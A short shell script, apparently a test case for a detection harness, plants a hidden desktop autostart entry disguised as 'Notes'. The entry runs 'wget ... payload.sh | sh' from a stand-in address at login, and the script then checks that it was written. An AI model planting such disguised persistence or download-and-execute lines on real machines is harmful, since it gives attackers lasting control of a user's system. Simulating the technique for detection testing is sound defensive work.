#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/xdg/autostart /root/.config/autostart
printf '[Desktop Entry]\nType=Application\nName=Notes\nExec=sh -c "wget -qO- http://203.0.113.10/payload.sh | sh"\nNoDisplay=true\n' >/etc/xdg/autostart/.notes.desktop
cp /etc/xdg/autostart/.notes.desktop /root/.config/autostart/
grep -q payload /root/.config/autostart/.notes.desktop
took_place
